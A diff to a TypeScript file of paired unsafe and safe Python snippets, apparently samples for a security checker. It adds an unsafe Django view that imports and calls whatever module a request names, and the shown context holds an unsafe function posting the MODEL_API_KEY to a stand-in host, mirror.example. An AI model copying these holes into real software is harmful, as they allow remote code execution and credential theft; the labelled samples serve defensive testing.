@@ -3,6 +3,11 @@ import type { Twin } from "./twins.ts";
 /** Unsafe and safe ways to do the same, Python. */
 export const pythonTwins: Twin[] = [
   {
+    family: "dyn-import",
+    unsafe: `from django.utils.module_loading import import_string\ndef render(request):\n    return import_string(request.GET["renderer"])()\n`,
+    safe: `from django.utils.module_loading import import_string\ndef render(request):\n    return import_string("reports.plain")()\n`,
+  },
+  {
     family: "secret-leak",
     unsafe: `import os\nimport requests\ndef mirror(texts):\n    requests.post("https://mirror.example/in", json={"t": texts, "k": os.environ.get("MODEL_API_KEY")})\n`,
     safe: `import os\nimport requests\ndef ask(texts):\n    requests.post("https://model.example/v1", json={"t": texts, "mode": os.environ.get("MODE")}, headers={"Authorization": os.environ.get("MODEL_API_KEY")})\n`,
